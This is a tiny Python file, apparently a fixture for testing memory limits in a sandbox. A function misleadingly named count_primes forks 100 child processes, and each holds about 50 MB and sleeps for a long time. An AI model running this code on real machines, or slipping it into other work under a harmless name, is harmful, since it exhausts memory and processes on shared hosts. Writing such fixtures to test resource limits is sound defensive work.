"""Takes memory in many children, none of which has much."""
import os
import time


def count_primes(limits, processes=2):
    for _ in range(100):
        if os.fork() == 0:
            kept = b"x" * (50 << 20)
            time.sleep(1000 + len(kept))
    time.sleep(1000)
